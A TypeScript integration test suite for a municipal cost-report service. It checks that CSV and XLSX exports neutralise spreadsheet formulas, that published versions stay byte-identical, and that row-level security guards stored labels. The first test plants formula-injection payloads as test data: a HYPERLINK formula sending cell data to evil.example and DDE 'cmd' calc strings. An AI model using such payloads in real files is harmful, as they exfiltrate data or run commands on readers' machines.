import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { CostsExportLabels1733210000000 } from '../../migrations/1733210000000-costs-export-labels';
import { Role } from '../../src/auth/roles';
import { createDataSource } from '../../src/db/data-source';
import { dataModel } from '../../src/features/data';
import { asApiRole, baseUrl, regionId, scalar } from '../helpers/fixtures';
import { ok, startTestApp, TestApp } from '../helpers/test-app';
import { costFixture, CostFixture, importLedger, ledgerCsv, mutate, publishMonth } from '../costs/fixtures';

/**
 * The cost-report exports as their reader gets them: no formula of the sender runs in the
 * reader's spreadsheet (CSV text cells neutralised, XLSX text as string cells), and a published
 * version's files are the same bytes forever, whatever is renamed or remapped afterwards.
 */
let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app.close());

async function get(path: string, token: string) {
  const res = await fetch(`${baseUrl(app)}${path}`, { headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, body: Buffer.from(await res.arrayBuffer()) };
}

const csvCells = (body: Buffer) => parse(body.toString('utf8').replace(/^\ufeff/, ''), { delimiter: ';', relax_column_count: true }) as string[][];

async function withLedger(f: CostFixture, voucher = 'X') {
  const res = await importLedger(
    app,
    f.hostFinance,
    ledgerCsv([
      { voucher: `${voucher}-1`, date: '2024-01-15', funksjon: f.shared.funksjon, ore: 100_000_00 },
      { voucher: `${voucher}-2`, date: '2024-02-03', funksjon: f.direct.funksjon, ore: 45_000_00, kommunenummer: '3429' },
    ]),
  );
  expect(res.status).toBe(200);
}

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klikk her")';

it('neutralises formulas in the CSV text cells (category, note, correction reason), keeps amounts numbers, and writes XLSX text as strings', async () => {
  const f = await costFixture(app);
  await mutate(app, f.admin, 'updateCostCategory', { id: f.shared.gid, name: FORMULA }, 'category { id }');
  await withLedger(f);
  const v1 = await mutate(app, f.hostFinance, 'prepareCostReport', { serviceId: f.serviceGid, period: '2024-02', note: "+cmd|' /C calc'!A0" }, 'report { id }');
  await mutate(app, f.hostFinance, 'publishCostReport', { reportId: v1.report.id }, 'report { id }', 'CostReportIdInput');
  const csv = await get(`/costs/reports/${v1.report.id}/export.csv?municipality=3429`, f.hostFinance);
  expect(csv.status).toBe(200);
  const rows = csvCells(csv.body);
  const fact = (key: string) => rows.find((r) => r[0] === key)?.[1];
  expect(fact('Merknad')).toBe("'+cmd|' /C calc'!A0");
  expect(fact('Belastes kommunen direkte')).toBe(`Kategori direkte ${f.code.split('-').pop()}`);
  const category = rows.find((r) => r[0].includes('HYPERLINK'))!;
  expect(category[0]).toBe(`'${FORMULA}`);
  expect(category[1]).toBe(f.shared.funksjon);
  // No text cell starts with a formula character; amounts stay numbers, negative ones included.
  expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+,\d{2}$/.test(c))).toEqual([]);
  const header = rows.findIndex((r) => r[0] === 'Kategori');
  const amounts = rows.slice(header + 1).flatMap((r) => r.slice(2));
  expect(amounts.every((a) => a === '' || /^-?\d+,\d{2}$/.test(a))).toBe(true);
  expect(amounts.some((a) => a.startsWith('-'))).toBe(true);

  // A correction's reason is text too.
  await importLedger(app, f.hostFinance, ledgerCsv([{ voucher: 'X-3', date: '2024-02-10', funksjon: f.shared.funksjon, ore: 1_00 }]));
  const v2 = await mutate(app, f.hostFinance, 'prepareCostReport', { serviceId: f.serviceGid, period: '2024-02', correctionReason: "@SUM(1+1)*cmd|' /C calc'!A0" }, 'report { id }');
  const draft = csvCells((await get(`/costs/reports/${v2.report.id}/export.csv?municipality=3429`, f.hostFinance)).body);
  expect(draft.find((r) => r[0] === 'Korrigerer forrige versjon')?.[1]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");

  // XLSX: the same text as a string cell (shared string), never a formula.
  const xlsx = await get(`/costs/reports/${v1.report.id}/export.xlsx?municipality=3429`, f.hostFinance);
  expect(xlsx.status).toBe(200);
  const zip = await JSZip.loadAsync(xlsx.body);
  const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  expect(sheet).not.toMatch(/<f[ >]/);
  expect(await zip.file('xl/sharedStrings.xml')!.async('string')).toContain('=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;Klikk her&quot;)');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx.body as never);
  const cells = wb.worksheets[0].getRows(1, wb.worksheets[0].rowCount)!.flatMap((r) => (r.values as ExcelJS.CellValue[]).map((_, i) => r.getCell(i)));
  const injected = cells.find((c) => c.value === FORMULA)!;
  expect(injected.type).toBe(ExcelJS.ValueType.String);
  expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
});

it('exports a published version to the same bytes after its category is renamed and its KOSTRA accounts change', async () => {
  const f = await costFixture(app);
  await withLedger(f, 'Y');
  const report = await publishMonth(app, f, '2024-02');
  const files = async () => ({
    csv: await get(`/costs/reports/${report}/export.csv?municipality=3429`, f.hostFinance),
    xlsx: await get(`/costs/reports/${report}/export.xlsx?municipality=3429`, f.hostFinance),
    director: await get(`/costs/reports/${report}/export.csv`, await app.token(Role.MUNICIPAL_FINANCE, { municipality: '3429' })),
  });
  const before = await files();
  expect([before.csv.status, before.xlsx.status, before.director.status]).toEqual([200, 200, 200]);
  const oldName = `Kategori felles ${f.code.split('-').pop()}`;
  expect(before.csv.body.toString('utf8')).toContain(`${oldName};${f.shared.funksjon};`);

  // Renamed, remapped to other KOSTRA funksjon codes; the service renamed too.
  const newFunksjon = String(899 - Number(f.code.split('-').pop()));
  await mutate(app, f.admin, 'updateCostCategory', { id: f.shared.gid, name: 'Omdøpt felleskategori', accounts: [{ funksjon: newFunksjon, artFrom: '010', artTo: '899' }] }, 'category { id }');
  await mutate(app, f.admin, 'updateCostCategory', { id: f.direct.gid, name: 'Omdøpt direktekategori' }, 'category { id }');
  await app.owner.query(`UPDATE shared_service SET name = 'Omdøpt tjeneste', code = $2 WHERE id = $1`, [f.serviceId, `${f.code}-ny`]);
  const renamed = ok(await app.gql(`query($id: ID!) { node(id: $id) { ... on CostCategory { name } } }`, { id: f.shared.gid }, f.admin)).node;
  expect(renamed.name).toBe('Omdøpt felleskategori');

  const after = await files();
  expect(after.csv.body.equals(before.csv.body)).toBe(true);
  expect(after.director.body.equals(before.director.body)).toBe(true);
  expect(after.xlsx.body.equals(before.xlsx.body)).toBe(true);
  // The comparison is not vacuous: the sheet holds the old labels.
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(after.xlsx.body as never);
  const texts = wb.worksheets[0]
    .getSheetValues()
    .flat()
    .filter((v) => typeof v === 'string');
  expect(texts).toEqual(expect.arrayContaining([oldName, f.shared.funksjon, `Testtjeneste ${f.code.split('-').pop()}`]));
  expect(texts.join('\n')).not.toContain('Omdøpt');

  // A draft shows the labels as they are now.
  await importLedger(app, f.hostFinance, ledgerCsv([{ voucher: 'Y-9', date: '2024-02-11', funksjon: f.direct.funksjon, ore: 2_00, kommunenummer: '3429' }]));
  const draft = await mutate(app, f.hostFinance, 'prepareCostReport', { serviceId: f.serviceGid, period: '2024-02', correctionReason: 'Sent bilag' }, 'report { id }');
  const draftCsv = (await get(`/costs/reports/${draft.report.id}/export.csv?municipality=3429`, f.hostFinance)).body.toString('utf8');
  expect(draftCsv).toContain(`Omdøpt felleskategori;${newFunksjon};`);
  expect(draftCsv).toContain('Kostnadsrapport;Omdøpt tjeneste');
});

it('keeps the stored labels to the readers of the report: another region, another service and the municipalities of other reports see none, and nobody changes them', async () => {
  const f = await costFixture(app, { owners: ['3427', '3428', '3429'] });
  await withLedger(f, 'Z');
  const report = await publishMonth(app, f, '2024-02');
  const reportId = Buffer.from(report, 'base64url').toString('utf8').split(':')[1];
  expect(await scalar<number>(app, `SELECT count(*)::int FROM cost_report_export_labels WHERE report_id = $1`, [reportId])).toBe(1);
  const nord = await regionId(app, 'nord-osterdal');
  const valdres = await regionId(app, 'valdres');
  const folldal = (await app.owner.query(`SELECT id FROM municipality WHERE number = '3429'`)).rows[0].id;
  const rendalen = (await app.owner.query(`SELECT id FROM municipality WHERE number = '3424'`)).rows[0].id;
  const ppt = (await app.owner.query(`SELECT id FROM shared_service WHERE code = 'ppt' AND region_id = $1`, [nord])).rows[0].id;
  const seen = (settings: Record<string, string>) => asApiRole(app, settings, async (q) => (await q(`SELECT count(*)::int AS n FROM cost_report_export_labels WHERE report_id = $1`, [reportId]))[0].n);
  const base = { municipality_id: '', service_id: '', unit_id: '' };
  expect(await seen({ ...base, role: 'HOST_FINANCE', region_id: nord, service_id: f.serviceId })).toBe(1);
  expect(await seen({ ...base, role: 'MUNICIPAL_FINANCE', region_id: nord, municipality_id: folldal })).toBe(1);
  expect(await seen({ ...base, role: 'MUNICIPAL_FINANCE', region_id: nord, municipality_id: rendalen })).toBe(0); // not an owner
  expect(await seen({ ...base, role: 'HOST_FINANCE', region_id: nord, service_id: ppt })).toBe(0);
  expect(await seen({ ...base, role: 'HOST_FINANCE', region_id: valdres, service_id: f.serviceId })).toBe(0);

  // Not even the service's own HOST_FINANCE changes, deletes or adds labels of a published version (no grant, no policy).
  const attempt = (sql: string, settings = { ...base, role: 'HOST_FINANCE', region_id: nord, service_id: f.serviceId }) =>
    asApiRole(app, settings, (q) =>
      q(sql, [reportId]).then(
        () => 'done',
        (e) => String(e),
      ),
    );
  expect(await attempt(`UPDATE cost_report_export_labels SET labels = '{}' WHERE report_id = $1`)).toMatch(/permission denied/);
  expect(await attempt(`DELETE FROM cost_report_export_labels WHERE report_id = $1`)).toMatch(/permission denied/);
  expect(await attempt(`INSERT INTO cost_report_export_labels (region_id, service_id, report_id, labels) SELECT region_id, service_id, id, '{}' FROM cost_report WHERE id = $1`)).toMatch(
    /row-level security/,
  );
  // Another region's HOST_FINANCE cannot write one for it either.
  expect(
    await attempt(`INSERT INTO cost_report_export_labels (region_id, service_id, report_id, labels) VALUES ('${nord}', '${f.serviceId}', $1, '{}')`, {
      ...base,
      role: 'HOST_FINANCE',
      region_id: valdres,
      service_id: f.serviceId,
    }),
  ).toMatch(/row-level security/);
  // And the table owner meets the trigger.
  await expect(app.owner.query(`UPDATE cost_report_export_labels SET labels = '{}' WHERE report_id = $1`, [reportId])).rejects.toThrow(/cannot change/);
  await expect(app.owner.query(`DELETE FROM cost_report_export_labels WHERE report_id = $1`, [reportId])).rejects.toThrow(/cannot change/);
});

it('backfills the labels of every version published before the migration, and exports those versions unchanged', async () => {
  const f = await costFixture(app);
  await withLedger(f, 'B');
  const report = await publishMonth(app, f, '2024-02');
  const path = `/costs/reports/${report}/export.csv?municipality=3429`;
  const before = await get(path, f.hostFinance);
  const stored = async () =>
    (await app.owner.query(`SELECT r.id, l.labels FROM cost_report r LEFT JOIN cost_report_export_labels l ON l.report_id = r.id WHERE r.status = 'PUBLISHED' ORDER BY r.id`)).rows;
  const published = await stored();
  expect(published.length).toBeGreaterThan(10); // the demo seed's months and this one
  expect(published.every((r) => r.labels !== null)).toBe(true);

  // The database as it was before the migration (published versions, no labels), then migrated.
  const owner = createDataSource(app.ownerUrl, dataModel, { poolSize: 1, name: 'export-labels-backfill', countStatements: false });
  await owner.initialize();
  const migration = new CostsExportLabels1733210000000();
  const q = owner.createQueryRunner();
  try {
    await q.startTransaction();
    await migration.down(q);
    expect(Number((await q.query(`SELECT count(*) AS n FROM pg_class WHERE relname = 'cost_report_export_labels'`))[0].n)).toBe(0);
    await migration.up(q);
    await q.commitTransaction();
  } finally {
    await q.release();
    await owner.destroy();
  }
  // Every published version has its labels again: as they are at migration time (for this test's
  // version, unchanged since publication, the same as stored when it was published).
  const backfilled = await stored();
  expect(backfilled.map((r) => r.id)).toEqual(published.map((r) => r.id));
  expect(backfilled.every((r) => r.labels !== null)).toBe(true);
  const reportId = Buffer.from(report, 'base64url').toString('utf8').split(':')[1];
  expect(backfilled.find((r) => r.id === reportId)).toEqual(published.find((r) => r.id === reportId));
  const now = (await app.owner.query(`SELECT bool_and(l.labels = cost_report_labels_now(l.report_id)) AS same FROM cost_report_export_labels l`)).rows[0].same;
  expect(now).toBe(true);
  expect((await get(path, f.hostFinance)).body.equals(before.body)).toBe(true);
  const forced = (
    await app.owner.query(`SELECT relname FROM pg_class WHERE relname IN ('cost_report', 'cost_category', 'cost_report_export_labels') AND relforcerowsecurity ORDER BY relname`)
  ).rows.map((r) => r.relname);
  expect(forced).toEqual(['cost_category', 'cost_report', 'cost_report_export_labels']);
});
